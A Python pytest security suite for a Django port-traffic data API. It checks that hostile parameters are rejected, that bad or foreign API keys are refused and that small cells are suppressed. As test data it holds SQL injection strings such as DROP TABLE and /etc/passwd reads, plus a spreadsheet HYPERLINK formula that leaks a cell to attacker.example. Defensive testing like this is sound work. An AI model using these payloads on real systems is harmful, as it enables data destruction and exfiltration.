"""Data-service calls under attack: hostile parameters are refused by name and bound as
data, never pasted into SQL; forged, revoked and expired keys and other organizations'
keys are refused; cells below the type's threshold never leave the platform."""

import csv
import datetime
import hashlib
import io
import json

import duckdb
import pytest
from django.apps import apps
from django.db import connection
from django.utils import timezone
from rest_framework.test import APIClient

from core.models import AuditEvent
from core.storage import data_path
from scenarios.agreement import AGREEMENT_SHA256
from scenarios.dataservices.definitions import service_propose, service_review
from scenarios.dataservices.keys import KEY, api_key_create, api_key_revoke
from scenarios.models import ApiKey, ServiceCall
from scenarios.services.scenarios import scenario_apply, scenario_transition
from scenarios.services.types import (
    scenario_type_propose,
    scenario_type_review,
    scenario_type_submit,
)
from tenants.roles import PlatformRole
from tests.factories import admitted_developer, staff_user

pytestmark = [pytest.mark.django_db, pytest.mark.security]


@pytest.fixture(autouse=True)
def _rate_out_of_the_way(settings):
    """Every call of a key counts against its rate, a refused one too; these tests make
    many (tests/scenarios/dataservices/test_counters.py tests the rate)."""
    settings.SERVICES_RATE_PER_MINUTE = 100_000


CALL = "/api/v1/services/berth-traffic/call"
MONTH = "2025-03-01/2025-03-31"
TODAY = datetime.date.today()


def call(secret, params=None, *, method="get", body=None, path=CALL, **headers):
    """One call through the HTTP API: GET with query parameters, or POST with a JSON
    object (``params``) or a raw JSON text (``body``)."""
    client = APIClient()
    if secret is not None:
        headers.setdefault("HTTP_AUTHORIZATION", f"ApiKey {secret}")
    if method == "get":
        return client.get(path, params or {}, **headers)
    if body is None:
        body = json.dumps(params or {})
    return client.post(path, data=body, content_type="application/json", **headers)


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def workspace_table(scenario):
    workspace = scenario.workspaces.get()
    (info,) = workspace.manifest["tables"].values()
    return data_path(workspace.path) / info["file"]


def true_counts(scenario, where: str) -> dict[str, tuple[int, int]]:
    """berth -> (rows, distinct vessels) straight from the workspace's Parquet file."""
    found = duckdb.sql(
        "SELECT berth, count(*), count(DISTINCT mmsi) "  # noqa: S608
        f"FROM read_parquet('{workspace_table(scenario)}') WHERE {where} GROUP BY berth"
    ).fetchall()
    return {berth: (rows, vessels) for berth, rows, vessels in found}


def files_under(root) -> dict[str, str]:
    return {
        str(path.relative_to(root)): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(root.rglob("*"))
        if path.is_file()
    }


def database_state() -> dict:
    """Every table and its rows, but for what a call is allowed to write (its own record,
    the key's last use; its counters are in Redis)."""
    counted = {
        model._meta.label: model.objects.count()
        for model in apps.get_models()
        if model is not ServiceCall
    }
    keys = list(ApiKey.objects.values_list("pk", "key_sha256", "revoked_at", "expires_at"))
    return {"tables": sorted(connection.introspection.table_names()), "rows": counted, "keys": keys}


def the_secret_part(secret: str) -> str:
    return KEY.match(secret).group(2)


# --- Hostile parameters ------------------------------------------------------------------

# Each is refused for every parameter type, as a query parameter or a JSON string.
HOSTILE_TEXT = [
    "2025-03-01'; DROP TABLE scenarios_servicecall; --",
    "1 OR 1=1",
    "0) UNION SELECT mmsi, count(*) FROM hy_0001 GROUP BY mmsi --",
    "' OR ''='",
    "$period_start",
    "1; SELECT * FROM read_csv('/etc/passwd')",
    "1e309",
    "-1e309",
    "NaN",
    "nan",
    "Infinity",
    "true",
    "null",
    "x" * 5000,
    "9" * 400,
    "１２",  # full-width digits
    "٣",  # Arabic-Indic digit three
    "𝟕",  # mathematical bold digit seven
    "7\n",  # a trailing newline
    "\x00",
]
HOSTILE_TEXT_OF = {
    "period": [
        "2025-03-01/2025-03-31'; DROP TABLE scenarios_servicecall; --",
        "2025-03-01' OR '1'='1/2025-03-31",
        "２０２５-０３-０１/２０２５-０３-３１",
        "2025-03-01/2025-03-31/2025-04-01",
        "$period_start/$period_end",
        "2025-03-31/2025-03-01",  # ends before it starts
        "2025-01-01/2025-12-31",  # beyond max_days
        "2025-03-01",
        "2025-03-01/2025-03-31\n",
        "2025-03-01/",
    ],
    "since": ["2025-02-30", "2025-3-1", "20250301", "2025-03-01T00:00:00", "2025-03-01 --"],
    "min_hour": ["5.5", "0x10", "1_0", " 5", "24", "-1", "+-5", "5 --", "05e0"],
    "max_hour": ["0x1p3", "1_0", "24", "-0.5", "1e2", "inf", "-inf", "5 --", "２.５"],
    "vessel_type": ["集装箱船' OR '1'='1", "集装箱船 ", "集装箱船;", "%", "*", "集装箱船\n"],
}
# JSON values (raw JSON text: 1e309 is a valid JSON number that parses to infinity).
HOSTILE_JSON = [
    "true",
    "false",
    "[1, 2]",
    '["2025-03-01", "2025-03-02"]',
    "[]",
    "[[5]]",
    '{"$gt": 0}',
    '{"nested": {"deeper": ["2025-03-01"]}}',
    "1e309",
    "-1e309",
]
HOSTILE_JSON_OF = {
    "period": [
        '{"start": "2025-03-01\'; DROP TABLE scenarios_servicecall; --", "end": "2025-03-31"}',
        '{"start": "2025-03-01", "end": "2025-03-31", "extra": "1 OR 1=1"}',
        '{"start": {"$gt": ""}, "end": "2025-03-31"}',
        '{"start": "2025-03-01"}',
        '{"start": "2025-03-31", "end": "2025-03-01"}',
        '{"start": 20250301, "end": 20250331}',
        '{"start": null, "end": null}',
        '{"start": ["2025-03-01"], "end": ["2025-03-31"]}',
        "20250301",
    ],
    "since": ["20250301", '{"start": "2025-03-01", "end": "2025-03-31"}'],
    "min_hour": ["5.5", "1e300", "100000000000000000000000000000", "-1", "24"],
    "max_hour": ["1e300", "24", "-1"],
    "vessel_type": ["1", '{"start": "2025-03-01", "end": "2025-03-31"}'],
}
PARAMETERS = ["period", "since", "min_hour", "max_hour", "vessel_type"]


def json_body(name: str, fragment: str) -> str:
    values = {"period": json.dumps(MONTH), name: fragment}
    return "{" + ", ".join(f"{json.dumps(k)}: {v}" for k, v in values.items()) + "}"


@pytest.mark.parametrize("name", PARAMETERS)
def test_hostile_values_of_every_parameter_type_are_refused_by_name_and_change_nothing(
    serviced, settings, name
):
    scenario, _developer, definition, secret = serviced
    before = call(secret, {"period": MONTH})
    assert before.status_code == 200, before.content
    database, data = database_state(), files_under(settings.DATA_ROOT)
    calls_before = ServiceCall.objects.count()
    attempts = [("get", text, None) for text in HOSTILE_TEXT + HOSTILE_TEXT_OF[name]]
    attempts += [
        ("post", text, json_body(name, json.dumps(text)))
        for text in HOSTILE_TEXT + HOSTILE_TEXT_OF[name]
    ]
    attempts += [
        ("post", fragment, json_body(name, fragment))
        for fragment in HOSTILE_JSON + HOSTILE_JSON_OF[name]
    ]

    accepted = []
    for method, payload, body in attempts:
        params = {"period": MONTH, name: payload}
        response = call(secret, params, method=method, body=body)
        answer = response.json()
        if response.status_code != 400 or answer.get("field") != name:
            accepted.append((method, payload[:60], response.status_code, answer.get("code")))
        else:
            assert answer["code"] == "invalid"
            assert name in answer["detail"]

    assert accepted == [], f"{name}: not refused by name: {accepted}"
    recorded = ServiceCall.objects.order_by("pk")[calls_before:]
    assert len(recorded) == len(attempts)
    assert {(c.status, c.service_id, c.api_key.scenario_id) for c in recorded} == {
        (400, definition.service_id, scenario.pk)
    }
    assert all(c.rows == 0 for c in recorded)
    assert database_state() == database
    assert files_under(settings.DATA_ROOT) == data
    after = call(secret, {"period": MONTH})
    assert after.status_code == 200
    assert after.json()["rows"] == before.json()["rows"]


def test_a_json_list_of_one_value_is_not_taken_for_the_value(serviced):
    """A query parameter given once arrives as a list of one; a JSON list is a list, which
    no parameter type accepts."""
    _scenario, _developer, _definition, secret = serviced
    accepted = []
    for name, fragment in [
        ("min_hour", "[5]"),
        ("max_hour", "[5.5]"),
        ("since", '["2025-03-02"]'),
        ("vessel_type", '["集装箱船"]'),
        ("period", f'["{MONTH}"]'),
    ]:
        response = call(secret, method="post", body=json_body(name, fragment))
        if response.status_code != 400 or response.json().get("field") != name:
            accepted.append((name, fragment, response.status_code))

    assert accepted == []


def test_a_json_body_that_is_not_an_object_or_not_json_runs_nothing(serviced):
    _scenario, _developer, _definition, secret = serviced
    for body in [
        f'{{"period": "{MONTH}", "max_hour": NaN}}',
        f'{{"period": "{MONTH}", "max_hour": Infinity}}',
        f'[{{"period": "{MONTH}"}}]',
        f'"period={MONTH}"',
        f'{{"period": "{MONTH}"',
    ]:
        response = call(secret, method="post", body=body)

        assert response.status_code == 400, (body, response.content)
        assert "rows" not in response.json()


def test_a_choice_with_quotes_is_bound_as_data(serviced, django_capture_on_commit_callbacks):
    scenario, developer, _definition, secret = serviced
    quoted = "O'Brien\"; --"
    sql_like = "' OR ''='"
    definition = service_propose(
        by=developer,
        scenario_type=scenario.scenario_type,
        code="type-traffic",
        name="船型到港艘次",
        sql=(
            "SELECT vessel_type, count(*) AS port_calls FROM hy_0001 "
            "WHERE ($vessel_type IS NULL OR vessel_type = $vessel_type) GROUP BY vessel_type"
        ),
        parameters=[
            {
                "name": "vessel_type",
                "type": "choice",
                "required": False,
                "choices": ["集装箱船", quoted, sql_like],
            }
        ],
        columns=["vessel_type", "port_calls"],
        unit="mmsi",
    )
    for reviewer in ("reviewer1", "reviewer2"):
        definition = service_review(
            by=staff_user(reviewer, PlatformRole.REVIEWER),
            definition=definition,
            decision="approve",
        )
    path = "/api/v1/services/type-traffic/call"

    for value in (quoted, sql_like):
        for method in ("get", "post"):
            response = call(secret, {"vessel_type": value}, method=method, path=path)

            assert response.status_code == 200, (value, method, response.content)
            assert response.json()["rows"] == []
    containers = call(secret, {"vessel_type": "集装箱船"}, path=path).json()
    everything = call(secret, {}, path=path).json()
    assert containers["rows"] == [{"vessel_type": "集装箱船", "port_calls": 50, "suppressed": []}]
    assert len(everything["rows"]) == 4
    assert set(ServiceCall.objects.filter(service_code="type-traffic").values_list("status")) == {
        (200,)
    }


def test_an_unknown_parameter_is_refused_by_its_name(serviced):
    _scenario, _developer, _definition, secret = serviced
    for method, params, field in [
        ("get", {"period": MONTH, "berth": "海天1号泊位"}, "berth"),
        ("get", {"period": MONTH, "Period": MONTH}, "Period"),
        ("post", {"period": MONTH, "period_start": "2025-03-01"}, "period_start"),
        ("post", {"period": MONTH, "1 OR 1=1": "1"}, "1 OR 1=1"),
    ]:
        response = call(secret, params, method=method)

        assert response.status_code == 400
        assert response.json()["field"] == field
        assert ServiceCall.objects.latest("pk").status == 400


def test_a_missing_required_parameter_is_refused_by_its_name(serviced):
    _scenario, _developer, _definition, secret = serviced
    for method, params in [
        ("get", {}),
        ("get", {"period": ""}),
        ("get", {"min_hour": "3"}),
        ("post", {}),
        ("post", {"period": None}),
        ("post", {"period": ""}),
    ]:
        response = call(secret, params, method=method)

        assert response.status_code == 400, (method, params)
        assert response.json()["field"] == "period"
        assert "required" in response.json()["detail"]
    assert list(ServiceCall.objects.values_list("status", flat=True)) == [400] * 6


def test_a_parameter_given_twice_is_refused_by_its_name(serviced):
    _scenario, _developer, _definition, secret = serviced
    for query, field in [
        (f"period={MONTH}&min_hour=1&min_hour=2", "min_hour"),
        (f"period={MONTH}&min_hour=1&min_hour=1", "min_hour"),
        (f"period={MONTH}&period=2025-03-01/2025-03-03", "period"),
        (f"period={MONTH}&vessel_type=油轮&vessel_type=散货船", "vessel_type"),
    ]:
        response = call(secret, path=f"{CALL}?{query}")

        assert response.status_code == 400, query
        assert response.json()["field"] == field


def test_a_parameter_given_twice_in_a_json_object_is_refused(serviced):
    """A JSON object with a repeated name is a parameter given twice: taking the last
    silently lets a proxy that checked the first see another value than the query."""
    _scenario, _developer, _definition, secret = serviced
    body = f'{{"period": "{MONTH}", "min_hour": 1, "min_hour": 2}}'

    response = call(secret, method="post", body=body)

    assert response.status_code == 400
    assert response.json().get("field") == "min_hour"


# --- Other organizations -----------------------------------------------------------------


def other_organization_key(tmp_path):
    """An admitted insurer with an authorized scenario of a type of its own (without the
    berth-traffic service) and a key of it: (organization, admin, scenario, secret)."""
    operator = staff_user("op")
    organization, admin = admitted_developer("保险公司", "insurer", by=operator)
    scenario_type = scenario_type_propose(
        by=admin,
        scope={"HY-0001": ["vessel_type", "berth"]},
        name="港口保险风险",
        name_en="Port insurance risk",
        purpose="保险定价",
        output_kinds=["aggregate", "service"],
        valid_from=TODAY - datetime.timedelta(days=1),
        valid_until=TODAY + datetime.timedelta(days=365),
    )
    scenario_type_submit(by=admin, scenario_type=scenario_type)
    for name in ("reviewer1", "reviewer2"):
        scenario_type = scenario_type_review(
            by=staff_user(name, PlatformRole.REVIEWER),
            scenario_type=scenario_type,
            decision="approve",
        )
    scenario = scenario_apply(
        by=admin,
        scenario_type=scenario_type,
        name="保险风险分析",
        purpose="保险定价",
        responsible_person="李四",
        period_start=TODAY,
        period_end=TODAY + datetime.timedelta(days=30),
        scope={"HY-0001": ["vessel_type", "berth"]},
        agreement_sha256=AGREEMENT_SHA256,
    )
    _key, secret = api_key_create(by=admin, scenario=scenario, name="insurer key")
    return organization, admin, scenario, secret


@pytest.fixture
def other(tmp_path, serviced, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        return other_organization_key(tmp_path)


def test_another_organization_cannot_call_a_service_of_a_type_it_has_no_scenario_of(
    serviced, other
):
    scenario, _developer, _definition, _secret = serviced
    _organization, _admin, their_scenario, their_secret = other
    assert their_scenario.scenario_type_id != scenario.scenario_type_id

    for method in ("get", "post"):
        response = call(their_secret, {"period": MONTH}, method=method)

        assert response.status_code == 403
        assert response.json()["code"] == "service_not_in_type"
        assert "rows" not in response.json()
    recorded = ServiceCall.objects.filter(scenario=their_scenario)
    assert list(recorded.values_list("status", flat=True)) == [403, 403]


def test_another_organization_cannot_list_create_or_revoke_the_keys_of_a_scenario(serviced, other):
    scenario, developer, _definition, secret = serviced
    _organization, their_admin, _their_scenario, _their_secret = other
    key = ApiKey.objects.get(scenario=scenario)
    own_list = api(developer).get(f"/api/v1/scenarios/{scenario.pk}/api-keys/")
    assert [k["id"] for k in own_list.json()["results"]] == [key.pk]
    client = api(their_admin)

    listed = client.get(f"/api/v1/scenarios/{scenario.pk}/api-keys/")
    created = client.post(
        f"/api/v1/scenarios/{scenario.pk}/api-keys/", {"name": "stolen"}, format="json"
    )
    revoked = client.post(f"/api/v1/api-keys/{key.pk}/revoke/")
    rated = client.post(f"/api/v1/api-keys/{key.pk}/rate/", {"rate_per_minute": 1}, format="json")
    missing = client.post("/api/v1/api-keys/999999/revoke/")

    assert listed.status_code == created.status_code == revoked.status_code == 404
    assert rated.status_code == 404
    assert revoked.json() == missing.json()
    assert "key" not in created.json()
    assert ApiKey.objects.filter(scenario=scenario).count() == 1
    key.refresh_from_db()
    assert key.revoked_at is None and key.rate_per_minute is None
    assert call(secret, {"period": MONTH}).status_code == 200


def test_another_organization_sees_only_its_own_usage(serviced, other):
    scenario, developer, _definition, secret = serviced
    their_organization, their_admin, _their_scenario, their_secret = other
    for _ in range(3):
        assert call(secret, {"period": MONTH}).status_code == 200
    assert call(secret, {"period": "bad"}).status_code == 400
    assert call(their_secret, {"period": MONTH}).status_code == 403

    theirs = api(their_admin).get("/api/v1/services/usage/").json()
    ours = api(developer).get("/api/v1/services/usage/").json()
    everyone = api(staff_user("op")).get("/api/v1/services/usage/").json()
    their_csv = api(their_admin).get("/api/v1/services/usage/", HTTP_ACCEPT="text/csv")
    filtered = (
        api(their_admin)
        .get(f"/api/v1/services/usage/?organization={scenario.organization_id}")
        .json()
    )

    assert (theirs["total"], theirs["refused"]) == (1, 1)
    assert [o["organization_id"] for o in theirs["organizations"]] == [their_organization.pk]
    assert [s["service_code"] for s in theirs["services"]] == ["berth-traffic"]
    assert (ours["total"], ours["refused"]) == (4, 1)
    assert [o["organization_id"] for o in ours["organizations"]] == [scenario.organization_id]
    assert everyone["total"] == 5
    rows = list(csv.reader(io.StringIO(their_csv.content.decode())))
    assert [row[2] for row in rows[1:]] == [their_organization.name]
    assert scenario.organization.name not in their_csv.content.decode()
    assert filtered["total"] == 0 and filtered["organizations"] == []


# --- Keys --------------------------------------------------------------------------------


def test_a_revoked_key_is_refused_at_once(serviced):
    scenario, developer, _definition, secret = serviced
    key = ApiKey.objects.get(scenario=scenario)
    assert call(secret, {"period": MONTH}).status_code == 200

    revoked = api(developer).post(f"/api/v1/api-keys/{key.pk}/revoke/")
    response = call(secret, {"period": MONTH})
    by_header = call(None, {"period": MONTH}, HTTP_X_API_KEY=secret)

    assert revoked.status_code == 200 and revoked.json()["revoked_at"]
    assert response.status_code == by_header.status_code == 401
    assert response.json()["code"] == "key_revoked"
    assert response["WWW-Authenticate"] == "ApiKey"
    assert "rows" not in response.json()
    assert ServiceCall.objects.count() == 1


def test_a_revoked_key_stays_refused_after_another_key_is_made(serviced):
    scenario, developer, _definition, secret = serviced
    key = ApiKey.objects.get(scenario=scenario)
    api_key_revoke(by=developer, key=key)
    _new, new_secret = api_key_create(by=developer, scenario=scenario, name="second key")

    assert call(secret, {"period": MONTH}).status_code == 401
    assert call(new_secret, {"period": MONTH}).status_code == 200


def test_an_expired_key_is_refused(serviced, monkeypatch):
    scenario, developer, _definition, _secret = serviced
    key, secret = api_key_create(
        by=developer,
        scenario=scenario,
        name="short-lived",
        expires_at=timezone.now() + datetime.timedelta(hours=1),
    )
    assert call(secret, {"period": MONTH}).status_code == 200  # the key is remembered now
    # Two hours later (the clock moved on): its expiry is past, remembered key or not.
    now = timezone.now
    monkeypatch.setattr(timezone, "now", lambda: now() + datetime.timedelta(hours=2))

    response = call(secret, {"period": MONTH})

    assert response.status_code == 401
    assert response.json()["code"] == "key_expired"
    assert ServiceCall.objects.filter(api_key=key).count() == 1


def test_malformed_and_unknown_keys_are_refused_and_leave_no_call(serviced):
    scenario, _developer, _definition, secret = serviced
    key = ApiKey.objects.get(scenario=scenario)
    forged = [
        {},
        {"HTTP_AUTHORIZATION": "ApiKey"},
        {"HTTP_AUTHORIZATION": "ApiKey "},
        {"HTTP_AUTHORIZATION": f"ApiKey {secret[:-1]}"},
        {"HTTP_AUTHORIZATION": f"ApiKey {secret}x"},
        {"HTTP_AUTHORIZATION": f"ApiKey {secret.upper()}"},
        {"HTTP_AUTHORIZATION": f"ApiKey sbx_{key.prefix}_{'A' * 43}"},
        {"HTTP_AUTHORIZATION": f"ApiKey sbx_{key.prefix}_"},
        {"HTTP_AUTHORIZATION": f"ApiKey {key.prefix}"},
        {"HTTP_AUTHORIZATION": f"ApiKey {key.key_sha256}"},
        {"HTTP_AUTHORIZATION": "ApiKey ' OR 1=1 --"},
        {"HTTP_AUTHORIZATION": f"ApiKey {'sbx_abcdefgh_' + 'a' * 10_000}"},
        {"HTTP_AUTHORIZATION": f"Bearer {secret}"},
        {"HTTP_AUTHORIZATION": f"Token {secret}"},
        {"HTTP_X_API_KEY": key.key_sha256},
        {"HTTP_X_API_KEY": f"{secret}\x00"},
    ]
    for headers in forged:
        response = call(None, {"period": MONTH}, **headers)

        assert response.status_code == 401, headers
        assert response.json()["code"] == "unauthenticated"
        assert response["WWW-Authenticate"] == "ApiKey"
    assert ServiceCall.objects.count() == 0
    key.refresh_from_db()
    assert key.last_used_at is None


def test_a_valid_call_updates_the_keys_last_use(serviced):
    scenario, _developer, _definition, secret = serviced
    key = ApiKey.objects.get(scenario=scenario)
    assert key.last_used_at is None
    started = timezone.now()

    first = call(secret, {"period": MONTH})
    key.refresh_from_db()
    first_use = key.last_used_at
    second = call(None, {"period": MONTH}, method="post", HTTP_X_API_KEY=secret)
    key.refresh_from_db()

    assert first.status_code == second.status_code == 200
    assert started <= first_use <= key.last_used_at <= timezone.now()
    assert list(ServiceCall.objects.values_list("api_key_id", flat=True)) == [key.pk] * 2


def test_only_the_sha256_of_a_key_is_stored_and_never_the_key(serviced):
    scenario, developer, _definition, secret = serviced
    created = api(developer).post(
        f"/api/v1/scenarios/{scenario.pk}/api-keys/", {"name": "through the API"}, format="json"
    )
    assert created.status_code == 201
    api_secret = created.json()["key"]
    listed = api(developer).get(f"/api/v1/scenarios/{scenario.pk}/api-keys/")
    assert call(api_secret, {"period": MONTH}).status_code == 200
    for key_secret in (secret, api_secret):
        key = ApiKey.objects.get(key_sha256=hashlib.sha256(key_secret.encode()).hexdigest())
        assert key.prefix == KEY.match(key_secret).group(1)
        assert the_secret_part(key_secret) not in listed.content.decode()
        row = json.dumps(
            list(ApiKey.objects.filter(pk=key.pk).values().get().values()), default=str
        )
        assert the_secret_part(key_secret) not in row
        events = AuditEvent.objects.filter(action__startswith="api_key")
        assert events.filter(target_id=str(key.pk)).exists()
        for event in AuditEvent.objects.all():
            assert the_secret_part(key_secret) not in event.canonical()
        for model in apps.get_models():  # nowhere in the database
            for values in model.objects.values_list():
                assert the_secret_part(key_secret) not in json.dumps(values, default=str)


# --- Scenario state ----------------------------------------------------------------------


def test_a_suspended_scenario_cannot_call_and_a_reinstated_one_can(serviced):
    scenario, _developer, _definition, secret = serviced
    operator = staff_user("op")
    assert call(secret, {"period": MONTH}).status_code == 200

    scenario_transition(by=operator, scenario=scenario, action="suspend", reason="用途核查")
    suspended = call(secret, {"period": MONTH})
    scenario_transition(by=operator, scenario=scenario, action="reinstate")
    reinstated = call(secret, {"period": MONTH})

    assert suspended.status_code == 403
    assert suspended.json()["code"] == "scenario_not_authorized"
    assert "rows" not in suspended.json()
    assert reinstated.status_code == 200 and len(reinstated.json()["rows"]) == 7
    assert list(ServiceCall.objects.order_by("pk").values_list("status", flat=True)) == [
        200,
        403,
        200,
    ]


def test_a_revoked_scenario_cannot_call(serviced):
    scenario, _developer, _definition, secret = serviced

    scenario_transition(by=staff_user("op"), scenario=scenario, action="revoke", reason="违规")
    response = call(secret, {"period": MONTH})

    assert response.status_code == 403
    assert response.json()["code"] == "scenario_not_authorized"


# --- Suppression -------------------------------------------------------------------------

SMALL_CELLS = [
    (
        {"period": "2025-03-01/2025-03-03"},
        "CAST(arrival_time AS DATE) BETWEEN '2025-03-01' AND '2025-03-03'",
    ),
    (
        {"period": MONTH, "vessel_type": "油轮"},
        "CAST(arrival_time AS DATE) BETWEEN '2025-03-01' AND '2025-03-31' AND vessel_type = '油轮'",
    ),
    (
        {"period": MONTH, "min_hour": "3", "max_hour": "6"},
        "CAST(arrival_time AS DATE) BETWEEN '2025-03-01' AND '2025-03-31' "
        "AND hour(arrival_time) BETWEEN 3 AND 6",
    ),
    (
        {"period": MONTH, "since": "2025-03-27"},
        "CAST(arrival_time AS DATE) BETWEEN '2025-03-27' AND '2025-03-31'",
    ),
]


@pytest.mark.parametrize(("params", "where"), SMALL_CELLS)
def test_cells_below_the_threshold_are_suppressed_and_their_counts_never_sent(
    serviced, params, where
):
    scenario, _developer, _definition, secret = serviced
    truth = true_counts(scenario, where)
    threshold = scenario.scenario_type.min_cell_count
    assert truth and all(0 < vessels < threshold for _rows, vessels in truth.values())
    berths = sorted(truth)

    answer = call(secret, params)
    as_csv = call(secret, params, HTTP_ACCEPT="text/csv")
    by_post = call(secret, params, method="post")

    assert answer.status_code == as_csv.status_code == by_post.status_code == 200
    body = answer.json()
    assert body == by_post.json()
    # Nothing in the answer but what is expected: no field can carry a true count.
    assert body == {
        "service": "berth-traffic",
        "version": 1,
        "scenario": scenario.pk,
        "workspace_version": 1,
        "threshold": threshold,
        "columns": ["berth", "port_calls"],
        # not even the berths: a row alone would say its cell holds a few, not none
        "rows": [],
        "cells_suppressed": len(berths),
        "cached": False,
    }
    text = as_csv.content.decode()
    assert list(csv.reader(io.StringIO(text))) == [["berth", "port_calls", "suppressed"]]
    assert as_csv["X-Cells-Suppressed"] == str(len(berths))
    assert set(ServiceCall.objects.values_list("rows", "suppressed", "status")) == {
        (0, len(berths), 200)
    }


def test_cells_of_a_full_month_are_returned_exactly(serviced):
    scenario, _developer, _definition, secret = serviced
    truth = true_counts(
        scenario, "CAST(arrival_time AS DATE) BETWEEN '2025-03-01' AND '2025-03-31'"
    )
    assert len(truth) == 7 and all(v >= 10 for _r, v in truth.values())

    answer = call(secret, {"period": {"start": "2025-03-01", "end": "2025-03-31"}}, method="post")
    as_csv = call(secret, {"period": MONTH}, HTTP_ACCEPT="text/csv")

    assert answer.status_code == 200
    assert answer.json()["rows"] == [
        {"berth": berth, "port_calls": truth[berth][0], "suppressed": []} for berth in sorted(truth)
    ]
    assert answer.json()["cells_suppressed"] == 0
    assert list(csv.reader(io.StringIO(as_csv.content.decode())))[1:] == [
        [berth, str(truth[berth][0]), ""] for berth in sorted(truth)
    ]
    assert sum(row[0] for row in truth.values()) == 200


def test_usage_exports_keep_an_organizations_name_from_running_as_a_formula(serviced, client):
    """An organization named like a spreadsheet formula: operator staff who open the usage
    export in a spreadsheet see the name as text."""
    scenario, _developer, _definition, secret = serviced
    hostile = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'
    scenario.organization.name = hostile
    scenario.organization.save(update_fields=["name"])
    assert call(secret, {"period": MONTH}).status_code == 200

    staff = staff_user("op")
    exported = api(staff).get("/api/v1/services/usage/", HTTP_ACCEPT="text/csv")
    client.force_login(staff)
    downloaded = client.get("/services/usage.csv")
    for body in (exported.content.decode(), downloaded.content.decode()):
        rows = list(csv.reader(io.StringIO(body)))
        assert rows[1][2] == "'" + hostile
        assert rows[1][3:] == ["1", "0", "7", "0"]  # numbers stay numbers
